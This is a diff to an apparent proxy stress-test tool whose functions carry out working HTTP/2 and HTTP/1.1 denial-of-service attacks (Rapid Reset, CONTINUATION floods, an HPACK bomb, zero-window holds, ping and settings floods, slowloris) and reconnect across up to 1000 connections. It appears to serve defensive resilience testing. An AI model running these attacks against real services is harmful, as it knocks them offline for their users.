@@ -210,6 +210,12 @@ class Peer:
             if "ACK" not in frame.flags:
                 self.send(fr.PingFrame(0, opaque_data=frame.opaque_data, flags=["ACK"]).serialize())
 
+    def await_settings(self, seconds=2.0):
+        """Reads until the proxy's SETTINGS arrived (and were acknowledged)."""
+        end = time.monotonic() + seconds
+        while not self.remote_settings and not self.closed and time.monotonic() < end:
+            self.pump(0.01)
+
     def wait_closed(self, seconds):
         """Keeps reading until the proxy closes the connection or `seconds` pass."""
         end = time.monotonic() + seconds
@@ -241,118 +247,152 @@ def cut_off(peer):
     return peer.goaway is not None or peer.closed_at is not None
 
 
+def sustained(args, clock, attack_one, until=None):
+    """Runs `attack_one(peer)` on one connection after another until time is up (or
+    --connections connections were used): an attacker the proxy cuts off comes back.
+    Sums what each connection's attack counted and how the proxy ended each one."""
+    until = until or clock.deadline
+    totals, endings = collections.Counter(), collections.Counter()
+    connections, first = 0, None
+    while time.monotonic() < until and connections < args.connections and not clock.over():
+        try:
+            peer = Peer(args, clock)
+        except OSError as error:
+            endings[f"connect failed: {error.__class__.__name__}"] += 1
+            time.sleep(0.05)
+            continue
+        connections += 1
+        opened = time.monotonic()
+        peer.await_settings()
+        totals.update(attack_one(peer, until))
+        peer.wait_closed(0.2)
+        if peer.goaway:
+            endings[f"goaway {peer.goaway['error']}"] += 1
+        elif peer.closed_at is not None:
+            endings["closed"] += 1
+        elif time.monotonic() - opened < 2.0:
+            # Our time ran out before the proxy had two seconds to act.
+            endings["time ran out"] += 1
+        else:
+            endings["still open"] += 1
+        if first is None:
+            first = peer.report()
+        peer.close()
+    return {
+        "connections": connections,
+        "endings": dict(endings),
+        "cut_off": connections > 0 and endings["still open"] == 0,
+        "totals": dict(totals),
+        "first_connection": first,
+    }
+
+
 def rapid_reset(args, clock):
-    """HEADERS + RST_STREAM pairs as fast as the proxy takes them, and every tenth batch
-    requests the proxy has already forwarded (the application is answering slowly, or
-    the response head has arrived) reset afterwards."""
-    peer = Peer(args, clock)
-    peer.pump(0.2)
-    immediate, late, batches = 0, 0, 0
-    while not clock.over() and not cut_off(peer) and immediate < args.count:
-        batch = b""
-        for _ in range(100):
-            stream = peer.new_stream()
-            batch += fr.HeadersFrame(
-                stream, peer.headers(b"GET", b"/"), flags=["END_HEADERS", "END_STREAM"]
+    """On each connection, 20 requests the proxy forwards (to a slow answer, or a 1 MiB
+    one) reset once it has taken them; then HEADERS + RST_STREAM pairs, 100 per write,
+    as fast as the proxy takes them."""
+
+    def attack_one(peer, until):
+        counts = collections.Counter()
+        streams = [peer.new_stream() for _ in range(20)]
+        burst = b"".join(
+            fr.HeadersFrame(
+                s,
+                peer.headers(b"GET", b"/slow" if i % 2 else b"/big/1048576"),
+                flags=["END_HEADERS", "END_STREAM"],
             ).serialize()
-            batch += fr.RstStreamFrame(stream, error_code=ErrorCodes.CANCEL).serialize()
-        if not peer.send(batch, frames=200):
-            break
-        immediate += 100
-        batches += 1
-        if batches % 10 == 0:
-            # Forwarded, then reset: the proxy must drop the application's work too.
-            streams = [peer.new_stream() for _ in range(20)]
-            burst = b"".join(
-                fr.HeadersFrame(
-                    s,
-                    peer.headers(b"GET", b"/slow" if i % 2 else b"/big/1048576"),
-                    flags=["END_HEADERS", "END_STREAM"],
+            for i, s in enumerate(streams)
+        )
+        peer.send(burst, frames=len(streams))
+        # Forwarded: the 1 MiB answers' heads arrive, the slow ones are being waited on.
+        peer.pump(0.1)
+        peer.send(
+            b"".join(fr.RstStreamFrame(s, error_code=ErrorCodes.CANCEL).serialize() for s in streams),
+            frames=len(streams),
+        )
+        counts["late_resets"] += len(streams)
+        counts["late_reset_after_response_head"] += sum(1 for s in streams if s in peer.statuses)
+        while time.monotonic() < until and not cut_off(peer) and counts["immediate_resets"] < args.count:
+            batch = b""
+            for _ in range(100):
+                stream = peer.new_stream()
+                batch += fr.HeadersFrame(
+                    stream, peer.headers(b"GET", b"/"), flags=["END_HEADERS", "END_STREAM"]
                 ).serialize()
-                for i, s in enumerate(streams)
-            )
-            peer.send(burst, frames=len(streams))
-            peer.pump(0.05)
-            resets = b"".join(
-                fr.RstStreamFrame(s, error_code=ErrorCodes.CANCEL).serialize()
-                for s in streams
-            )
-            peer.send(resets, frames=len(streams))
-            late += len(streams)
-        peer.pump(0)
-    peer.wait_closed(1.0)
-    return dict(peer.report(), immediate_resets=immediate, late_resets=late, cut_off=cut_off(peer))
+                batch += fr.RstStreamFrame(stream, error_code=ErrorCodes.CANCEL).serialize()
+            if not peer.send(batch, frames=200):
+                break
+            counts["immediate_resets"] += 100
+            peer.pump(0)
+        return counts
+
+    return sustained(args, clock, attack_one)
 
 
 def continuation(args, clock):
     """A header block that never ends: HEADERS without END_HEADERS, then CONTINUATION
-    frames (full ones on the first connection, empty ones on the second)."""
+    frames: full ones for the first half of the time, empty ones for the second."""
     results = {}
-    for label, payload in (("full", b"\x00" + b"a" * (FRAME_SIZE - 1)), ("empty", b"")):
-        if clock.over():
-            break
-        peer = Peer(args, clock)
-        peer.pump(0.2)
-        first = peer.new_stream()
-        opened = peer.headers(b"GET", b"/")
-        peer.send(fr.HeadersFrame(first, opened, flags=[]).serialize())
-        sent = 0
-        # Half of what is left for the first connection, the rest for the second.
-        until = time.monotonic() + (clock.left() / 2 if label == "full" else clock.left())
-        frame = fr.ContinuationFrame(first, payload, flags=[]).serialize()
-        while time.monotonic() < until and not cut_off(peer) and sent < args.count:
-            if not peer.send(frame * 64, frames=64):
-                break
-            sent += 64
-            peer.pump(0)
-        peer.wait_closed(1.0)
-        results[label] = dict(peer.report(), continuations=sent, cut_off=cut_off(peer))
-        peer.close()
+    half = clock.start + (clock.deadline - clock.start) / 2
+    for label, payload, until in (
+        ("full", b"\x00" + b"a" * (FRAME_SIZE - 1), half),
+        ("empty", b"", clock.deadline),
+    ):
+        frame_bytes = None
+
+        def attack_one(peer, until, payload=payload):
+            nonlocal frame_bytes
+            counts = collections.Counter()
+            stream = peer.new_stream()
+            peer.send(fr.HeadersFrame(stream, peer.headers(b"GET", b"/"), flags=[]).serialize())
+            frames = fr.ContinuationFrame(stream, payload, flags=[]).serialize() * 64
+            while time.monotonic() < until and not cut_off(peer) and counts["continuations"] < args.count:
+                if not peer.send(frames, frames=64):
+                    break
+                counts["continuations"] += 64
+                counts["bytes"] += len(frames)
+                peer.pump(0)
+            return counts
+
+        results[label] = sustained(args, clock, attack_one, until)
     return results
 
 
 def hpack_bomb(args, clock):
-    """A ~4 KB header put in the dynamic table once, then referenced by one-byte indexes
-    until each header block decodes to tens of megabytes."""
-    connections, outcomes = [], collections.Counter()
+    """A 3 KB header put in the dynamic table once, then referenced by one-byte indexes
+    until each header block decodes to ~190 MB."""
     bomb_value = b"b" * 3000
-    for _ in range(args.connections):
-        if clock.over():
-            break
-        peer = Peer(args, clock)
-        peer.pump(0.2)
-        # The first request inserts x-bomb as the newest dynamic entry (index 62).
+    statuses, resets = collections.Counter(), collections.Counter()
+
+    def attack_one(peer, until):
+        counts = collections.Counter()
+        # The first request inserts x-bomb as the newest dynamic entry (index 62); it is
+        # a legitimate request.
         stream = peer.new_stream()
         first = peer.headers(b"GET", b"/", [(b"x-bomb", bomb_value)])
         peer.send(fr.HeadersFrame(stream, first, flags=["END_HEADERS", "END_STREAM"]).serialize())
-        sent = 1
-        while sent < args.count and not cut_off(peer) and not clock.over():
+        references = b"\xbe" * (FRAME_SIZE - 64)
+        while counts["bombs"] < args.count and not cut_off(peer) and time.monotonic() < until:
             stream = peer.new_stream()
-            block = peer.headers(b"GET", b"/") + b"\xbe" * (FRAME_SIZE - 64)
-            # HEADERS plus three CONTINUATION frames of references: ~64 KB of indexes,
-            # ~190 MB decoded.
-            frames = fr.HeadersFrame(stream, block, flags=[]).serialize()
+            # HEADERS and three CONTINUATION frames of references (~64 K of them).
+            frames = fr.HeadersFrame(stream, peer.headers(b"GET", b"/") + references, flags=[]).serialize()
             for index in range(3):
                 flags = ["END_HEADERS"] if index == 2 else []
-                frames += fr.ContinuationFrame(stream, b"\xbe" * (FRAME_SIZE - 64), flags=flags).serialize()
-            # No END_STREAM on the frame carrying it: HEADERS had none either.
+                frames += fr.ContinuationFrame(stream, references, flags=flags).serialize()
             frames += fr.DataFrame(stream, b"", flags=["END_STREAM"]).serialize()
             if not peer.send(frames, frames=5):
                 break
-            sent += 1
+            counts["bombs"] += 1
             peer.pump(0.01)
-        peer.wait_closed(0.5)
-        report = dict(peer.report(), bombs=sent)
-        for status, count in report["statuses"].items():
-            outcomes[f"status {status}"] += count
-        for reason, count in report["resets"].items():
-            outcomes[f"reset {reason}"] += count
-        if peer.goaway:
-            outcomes[f"goaway {peer.goaway['error']}"] += 1
-        connections.append(report)
-        peer.close()
-    # The first request of each connection is a legitimate one (one 3 KB header).
-    return {"connections": connections, "outcomes": dict(outcomes)}
+        peer.wait_closed(0.3)
+        statuses.update(str(code) for code in peer.statuses.values())
+        resets.update(peer.resets)
+        return counts
+
+    result = sustained(args, clock, attack_one)
+    result["statuses"] = dict(statuses)
+    result["resets"] = dict(resets)
+    return result
 
 
 def zero_window(args, clock):
@@ -361,7 +401,7 @@ def zero_window(args, clock):
     peers, opened = [], 0
     for _ in range(args.connections):
         peer = Peer(args, clock, settings={SettingCodes.INITIAL_WINDOW_SIZE: 0}, auto_window=False)
-        peer.pump(0.2)
+        peer.await_settings()
         limit = peer.remote_settings.get(SettingCodes.MAX_CONCURRENT_STREAMS, args.count)
         streams = min(limit, args.count)
         batch = b"".join(
@@ -385,22 +425,24 @@ def zero_window(args, clock):
 
 
 def flood(args, clock, make_frame):
-    """One frame kind, as fast as the proxy reads, never reading what it answers."""
-    peer = Peer(args, clock)
-    peer.pump(0.2)
-    sent = 0
-    while not clock.over() and sent < args.count and not peer.closed:
-        if not peer.send(b"".join(make_frame(sent + i) for i in range(100)), frames=100):
-            if peer.send_stalled:
-                # The proxy stopped reading: hold the connection, unread, to the end.
-                peer.send_stalled = False
-                time.sleep(0.1)
-                continue
-            break
-        sent += 100
-    stalled_at = clock.now()
-    peer.pump(0.5)
-    return dict(peer.report(), flood_frames=sent, stopped_at=stalled_at)
+    """One frame kind, 100 per write, as fast as the proxy reads, never reading what it
+    answers; a connection the proxy stops reading is held unread to the end."""
+
+    def attack_one(peer, until):
+        counts = collections.Counter()
+        while time.monotonic() < until and counts["frames"] < args.count and not peer.closed:
+            if peer.send(b"".join(make_frame(counts["frames"] + i) for i in range(100)), frames=100):
+                counts["frames"] += 100
+            elif peer.send_stalled:
+                # Part of a write may have gone: hold the connection, unread, to the end.
+                counts["stalled"] += 1
+                time.sleep(max(0.0, until - time.monotonic()))
+                break
+            else:
+                break
+        return counts
+
+    return sustained(args, clock, attack_one)
 
 
 def settings_flood(args, clock):
@@ -421,7 +463,7 @@ def ping_flood(args, clock):
     return flood(args, clock, lambda i: fr.PingFrame(0, opaque_data=i.to_bytes(8, "big")).serialize())
 
 
-def open_sockets(args, count):
+def open_sockets(args, count, first=b""):
     """`count` connections held open; raises RLIMIT_NOFILE first when it must."""
     soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
     needed = count + 64
@@ -432,6 +474,10 @@ def open_sockets(args, count):
     sockets = []
     for _ in range(count):
         sock = socket.create_connection((args.host, args.port), timeout=5)
+        # What the connection says first goes at once: a caller silent past the
+        # proxy's protocol detection would be relayed as opaque TCP instead.
+        if first:
+            sock.sendall(first)
         sockets.append(sock)
     return sockets
 
@@ -451,10 +497,7 @@ def idle_connections(args, clock):
     """`--connections` HTTP/2 connections that send the preface and SETTINGS, then
     nothing; held to the end and counted as the proxy closes them."""
     started = time.monotonic()
-    sockets = open_sockets(args, args.connections)
-    hello = PREFACE + fr.SettingsFrame(0).serialize()
-    for sock in sockets:
-        sock.sendall(hello)
+    sockets = open_sockets(args, args.connections, PREFACE + fr.SettingsFrame(0).serialize())
     opened_in = round(time.monotonic() - started, 3)
     print(json.dumps({"event": "opened", "connections": len(sockets), "at": clock.now()}), flush=True)
     closed_at = {}
@@ -477,8 +520,9 @@ def idle_connections(args, clock):
 
 def slow_head_http1(args, clock):
     """HTTP/1.1 request heads sent one byte per interval, on many connections."""
-    sockets = open_sockets(args, args.connections)
-    head = b"GET / HTTP/1.1\r\nHost: backend\r\n" + b"X-Slow: " + b"a" * 100000
+    request_line = b"GET / HTTP/1.1\r\n"
+    sockets = open_sockets(args, args.connections, request_line)
+    head = b"Host: backend\r\nX-Slow: " + b"a" * 100000
     closed_at = {}
     position = 0
     while not clock.over() and len(closed_at) < len(sockets):
@@ -503,10 +547,8 @@ def slow_head_http1(args, clock):
 
 def slow_body_http1(args, clock):
     """HTTP/1.1 uploads whose body arrives one byte per interval."""
-    sockets = open_sockets(args, args.connections)
     head = b"POST /upload HTTP/1.1\r\nHost: backend\r\nContent-Length: 100000\r\n\r\n"
-    for sock in sockets:
-        sock.sendall(head)
+    sockets = open_sockets(args, args.connections, head)
     closed_at, answers = {}, collections.Counter()
     sent = 0
     while not clock.over() and len(closed_at) < len(sockets):
@@ -555,6 +597,8 @@ def slow_http2(args, clock, body):
     peers = []
     for _ in range(args.connections):
         peer = Peer(args, clock)
+        # The proxy's SETTINGS acknowledged first: no frame may interrupt a header block.
+        peer.await_settings()
         stream = peer.new_stream()
         if body:
             fields = peer.headers(b"POST", b"/upload", [(b"content-length", b"100000")])
@@ -597,7 +641,7 @@ def many_streams(args, clock):
     never comes, on a connection with a window of 0. Opens the advertised limit plus
     --count more, to see the extra ones refused."""
     peer = Peer(args, clock, settings={SettingCodes.INITIAL_WINDOW_SIZE: 0}, auto_window=False)
-    peer.pump(0.3)
+    peer.await_settings()
     advertised = peer.remote_settings.get(SettingCodes.MAX_CONCURRENT_STREAMS)
     # An unlimited proxy is tried with as many streams as the issue's 3,000.
     target = (advertised if advertised is not None and advertised <= 10000 else 3000) + args.count
@@ -652,7 +696,7 @@ def main():
     parser.add_argument("--authority", default="backend.shop")
     parser.add_argument("--duration", type=float, default=10.0, help=f"seconds (at most {MAX_DURATION})")
     parser.add_argument("--count", type=int, default=100000, help="upper bound on frames/streams")
-    parser.add_argument("--connections", type=int, default=1)
+    parser.add_argument("--connections", type=int, default=1000, help="connections used (or held)")
     parser.add_argument("--interval", type=float, default=0.5, help="seconds between dripped bytes")
     parser.add_argument("--cert", help="client certificate chain (PEM): speak mTLS as a mesh peer")
     parser.add_argument("--key", help="its private key (PEM)")
